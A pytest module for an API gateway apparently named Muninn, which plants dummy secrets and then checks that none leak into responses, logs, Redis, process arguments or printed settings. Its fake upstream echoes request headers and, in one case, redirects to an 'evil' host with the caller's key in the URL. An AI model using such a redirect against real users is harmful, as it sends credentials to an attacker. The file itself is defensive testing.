"""Planted secrets, a run of everything there is, and then a search of all that was written."""

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import redis
import requests
from cryptography.fernet import Fernet

from tests.support.guarded import MUNINN, muninn_keys
from tests.support.processes import HOST, Muninn, StoreServer, free_port
from tests.support.secret_search import all_of_redis, command_lines, files_below, forms_of, found_in
from tests.support.upstream import Peer, Seen, Upstream, answer, json_answer, sse_head
from tests.support.upstream import event as sse_event
from tests.support.waiting import wait_until
from tests.support.webhooks import SECRET as WEBHOOK_SECRET

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="reads /proc")

SECRETS = {
    "first provider key": "planted-first-provider-key-1f9a77c2",
    "second provider key": "planted-second-provider-key-b8e0d4a6",
    "provider key in its row": "planted-key-in-a-row-90c3ee17",
    "key in a provider's header": "planted-header-of-a-row-6d21f0b9",
    "password in a base URL": "planted-base-url-password-77ab3c10",
    "caller's provider key": "planted-key-of-a-caller-c5d81e92",
    "key that nobody has": "planted-key-that-is-wrong-4e6b2f88",
    "admin key": "planted-admin-key-from-the-environment-e19d",
    "webhook secret": WEBHOOK_SECRET.removeprefix("whsec_"),
    "token in a webhook's URL": "planted-webhook-token-0b7c55d3",
    "Redis password": "planted-redis-password-a04f9e6c",
    "encryption key": Fernet.generate_key().decode(),
    "metrics token": "planted-metrics-token-8c1d70f2",
}
RESPONSE = {
    "id": "resp_1",
    "object": "response",
    "status": "completed",
    "created_at": 1,
    "model": "m",
    "output": [],
    "usage": {"input_tokens": 1, "output_tokens": 1, "total_tokens": 2},
}


def provider(peer: Peer, seen: Seen) -> None:
    """Does what the model's name says, and tells the caller all about the request's secrets."""
    told = {"headers": seen.headers, "head": seen.head.decode("latin-1")}
    error = {"error": {"message": f"refused: {json.dumps(told)}", "code": "bad_key", "more": told}}
    match seen.json.get("model"):
        case "refuse":
            peer.send(json_answer(error, status=401, headers={"x-request-id": "r"}))
        case "fail":
            peer.send(json_answer(error, status=500))
        case "text":
            peer.send(answer(f"no JSON: {told}".encode(), status=400))
        case "odd":
            peer.send(answer(f"no JSON: {told}".encode()))
        case "redirect":
            key = seen.headers.get("authorization", "").removeprefix("Bearer ")
            peer.send(answer(status=302, headers={"location": f"http://{key}@evil/?key={key}"}))
        case "stream":
            peer.send(sse_head() + sse_event({"type": "error", **error}))
        case "hold":
            HOLD_NOW.append(seen)
            peer.hold()
        case _:
            peer.send(json_answer(RESPONSE))


HOLD_NOW: list[Seen] = []


@dataclass
class Run:
    """A Muninn with all its secrets, and every answer that it gave."""

    muninn: Muninn
    store: redis.Redis
    folder: Path
    secrets: dict[str, str]
    answers: dict[str, bytes] = field(default_factory=dict)

    def call(self, method: str, path: str, *, key: str | None = None, **options: Any) -> Any:
        headers = {"authorization": f"Bearer {key or self.secrets['virtual key']}"}
        headers |= options.pop("headers", {})
        sent = requests.request(
            method, self.muninn.root + path, headers=headers, timeout=30, **options
        )
        name = f"answer {len(self.answers)} to {method} {path} {options.get('json')}"
        self.answers[name] = repr(dict(sent.headers)).encode() + sent.content
        return sent

    def create(self, model: str, **options: Any) -> Any:
        body = {"model": model, "input": "hi", **options.pop("body", {})}
        return self.call("POST", "/v1/responses", json=body, **options)

    def job(self, model: str, **headers: str) -> str:
        sent = {name.replace("_", "-"): value for name, value in headers.items()}
        answered = self.create(model, headers={"x-bf-async": "true", **sent})
        assert answered.status_code == 200, answered.text
        return str(answered.json()["id"])

    def ended(self, job_id: str) -> None:
        path = f"/v1/async/responses/{job_id}"
        wait_until(lambda: self.call("GET", path).status_code == 200, "the job ends", 60)

    def is_told(self, job_id: str) -> bool:
        shown = self.call("GET", f"/v1/async/responses/{job_id}").json()
        return shown["webhook"]["status"] in ("delivered", "given_up")


def settings(upstream_url: str) -> dict[str, str]:
    with_password = upstream_url.replace("://", f"://us%65r:{SECRETS['password in a base URL']}@")
    rows = {
        "two": {"base_url": f"{upstream_url}/v1", "api_key_envs": ["KEY_ONE", "KEY_TWO"]},
        "row": {
            "base_url": f"{with_password}/v1",
            "api_key": SECRETS["provider key in its row"],
            "headers": {"x-extra-auth": SECRETS["key in a provider's header"]},
        },
        "own": {"base_url": f"{upstream_url}/v1", "allow_caller_keys": True},
        "down": {"base_url": f"http://127.0.0.1:{free_port()}/v1", "api_key_env": "KEY_ONE"},
    }
    token = SECRETS["token in a webhook's URL"]
    hooks = {
        name: {"url": f"{url}?token={token}", "secrets": [WEBHOOK_SECRET]}
        for name, url in (
            ("good", f"{upstream_url}/good"),
            ("bad", f"http://127.0.0.1:{free_port()}/bad"),
        )
    }
    return {
        "providers": json.dumps(rows),
        "webhooks": json.dumps(hooks),
        "keys": json.dumps({"boss": {"secret_env": "ADMIN_KEY", "is_admin": True}}),
        "encryption_keys": SECRETS["encryption key"],
        "metrics_token": SECRETS["metrics token"],
        "webhook_allow_private": "true",
        "webhook_first_delay_seconds": "0.1",
        "webhook_max_attempts": "2",
        "max_provider_attempts": "2",
        "lease_seconds": "1",
        "log_level": "debug",
        "access_log": "true",
    }


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Run]:
    """Everything was done once; the processes still run."""
    folder = tmp_path_factory.mktemp("secrets")
    server = StoreServer(folder / "store")
    password = SECRETS["Redis password"]
    with server.client() as client:
        client.config_set("requirepass", password)
    url = f"redis://:{password}@{HOST}:{server.port}/0"
    with Upstream([provider]) as upstream:
        muninn = Muninn(folder, url, **settings(upstream.url))
        muninn.env |= {
            "KEY_ONE": SECRETS["first provider key"],
            "KEY_TWO": SECRETS["second provider key"],
            "ADMIN_KEY": SECRETS["admin key"],
        }
        shown = muninn_keys("create", "--name", "team", REDIS_URL=url)
        (key,) = [word for word in shown.stdout.split() if len(word) > 30]
        store = redis.Redis(host=HOST, port=server.port, password=password)
        done = Run(muninn.start(workers=2), store, folder, {**SECRETS, "virtual key": key})
        try:
            everything(done)
            yield done
        finally:
            store.close()
            muninn.stop()
            server.stop()


def everything(run: Run) -> None:
    own = {
        "x-bf-provider-key": SECRETS["caller's provider key"],
        "x-bf-vk": run.secrets["virtual key"],
    }
    lost = held_by_a_worker_that_is_killed(run, own)
    models = ("fine", "refuse", "fail", "text", "odd", "redirect", "stream")
    for provider_name, headers in (("two", {}), ("row", {}), ("own", own)):
        for model in models:
            name = f"{provider_name}/{model}"
            run.create(name, headers=headers)
            run.create(name, headers={**headers, "x-bf-send-back-raw-request": "true",
                                      "x-bf-send-back-raw-response": "true"})  # fmt: skip
            run.create(name, headers=headers, body={"stream": True})
    run.create("own/fine")  # without the key that is needed
    run.create("own/fine", headers={"x-bf-provider-key": "odd \t key"})
    run.create("down/fine")
    run.create("nobody/fine", body={"fallbacks": ["two/refuse"]})
    jobs = [run.job(f"{name}/{model}") for name in ("two", "row") for model in ("fine", "refuse")]
    jobs += [run.job(f"own/{model}", **own) for model in ("fine", "refuse", "text", "stream")]
    jobs += [run.job("two/fine", x_bf_async_webhook=name) for name in ("good", "bad")]
    jobs += [run.job("down/fine"), lost]
    batch = {"requests": [{"custom_id": "a", "body": {"model": "two/refuse", "input": "hi"}}]}
    run.call("POST", "/v1/async/responses/batch", json=batch)
    for job_id in jobs:
        run.ended(job_id)
    for path in ("", f"/{jobs[0]}/request", f"/{jobs[0]}"):
        run.call("GET", f"/v1/async/responses{path}")
    for key in (SECRETS["key that nobody has"], SECRETS["admin key"]):
        for path in ("/v1/async/responses", "/v1/async/overview", "/v1/usage", "/metrics"):
            run.call("GET", path, key=key)
        run.create("two/fine", key=key)
    run.call("GET", "/metrics", key=SECRETS["metrics token"])
    for path in ("/healthz", "/readyz", "/version", "/openapi.json", "/docs", "/ui", "/nothing"):
        run.call("GET", path)
    run.call("POST", "/v1/responses", data=b"{" + run.secrets["virtual key"].encode()[:4])
    for job_id in jobs[-4:-2]:
        wait_until(lambda told=job_id: run.is_told(told), "the webhook is done with")


def held_by_a_worker_that_is_killed(run: Run, own: dict[str, str]) -> str:
    """A job whose caller's key is in Redis while its worker dies; searched at that very moment."""
    job_id = run.job("own/hold", **own)
    wait_until(lambda: HOLD_NOW, "the provider was called")
    assert found_in(all_of_redis(run.store), run.secrets) == []
    assert b"\ncaller_key\n" in b"".join(all_of_redis(run.store).values())
    for worker in run.muninn.workers:
        worker.kill()
    run.muninn.start_worker()
    wait_until(lambda: len(HOLD_NOW) > 1, "another worker called it again")
    run.call("POST", f"/v1/async/responses/{job_id}/cancel")
    return job_id


def test_the_search_finds_what_there_is():
    places = {"plain": b"a planted-x b", "basic": b"dXNlcjpwbGFudGVkLXg=", "url": b"planted%2Dx"}
    assert found_in(places, {"it": "planted-x"}) == ["it in plain", "it in basic"]
    assert found_in({"url": b"a%2Fb"}, {"it": "a/b"}) == ["it in url"]
    assert all(len(form) >= 8 for form in forms_of("planted-x"))


def test_the_secrets_were_used(run):
    heads = b"".join(each for name, each in run.answers.items() if "fine" in name)
    assert heads.count(b'"resp_1"') > 5
    assert len(run.answers) > 60


def test_no_answer_shows_one(run):
    assert found_in(run.answers, run.secrets) == []


def test_no_log_shows_one(run):
    logs = files_below(run.folder, "*.log")
    assert len(logs) >= 5
    assert found_in(logs, run.secrets) == []
    assert b"Traceback" not in b"".join(
        text for name, text in logs.items() if name.startswith("front")
    )


def test_redis_holds_none(run):
    kept = all_of_redis(run.store)
    assert len(kept) > 20
    assert found_in(kept, run.secrets) == []


def test_a_callers_key_is_not_even_kept_encrypted_when_its_job_has_ended(run):
    assert b"\ncaller_key\n" not in b"".join(all_of_redis(run.store).values())
    assert b"gAAAAA" not in b"".join(all_of_redis(run.store).values())


def test_the_append_only_file_holds_none(run):
    files = files_below(run.folder / "store", "*.aof")
    assert b"".join(files.values()).count(b"gAAAAA") > 0, "keys of callers went there, encrypted"
    assert found_in(files, run.secrets) == []


def test_no_process_was_given_one_as_an_argument(run):
    assert found_in(command_lines(), run.secrets) == []


def test_the_shown_settings_mask_them(run):
    environ = {**os.environ, **run.muninn.env}
    shown = subprocess.run(
        [MUNINN, "config"], env=environ, capture_output=True, timeout=30, check=True
    )
    assert b"MUNINN_ENCRYPTION_KEYS" in shown.stdout
    assert found_in({"config": shown.stdout + shown.stderr}, run.secrets) == []
